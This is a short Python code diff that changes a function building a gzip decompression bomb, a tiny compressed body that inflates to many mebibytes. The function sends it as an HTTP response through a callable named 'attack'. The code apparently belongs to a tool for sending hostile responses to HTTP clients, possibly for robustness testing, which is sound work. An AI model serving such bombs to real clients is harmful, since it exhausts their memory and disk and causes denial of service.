@@ -95,12 +95,14 @@ def endless(start: bytes, piece: bytes) -> Callable[[Callable[[bytes], None]], N
 
 
 def bomb(unpacked_mebibytes: int) -> Callable[[Callable[[bytes], None]], None]:
-    """A thousandth of that, packed."""
+    """A thousandth of that, packed; without gzip's trailer, so that it is made in no time."""
+    packing = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
+    first, more = (
+        packing.compress(bytes(MEBIBYTE)) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
+    )
+    body = first + more * (unpacked_mebibytes - 1)
 
     def attack(send: Callable[[bytes], None]) -> None:
-        packing = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
-        packed = [packing.compress(bytes(MEBIBYTE)) for _ in range(unpacked_mebibytes)]
-        body = b"".join((*packed, packing.flush()))
         send(OK + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
 
     return attack
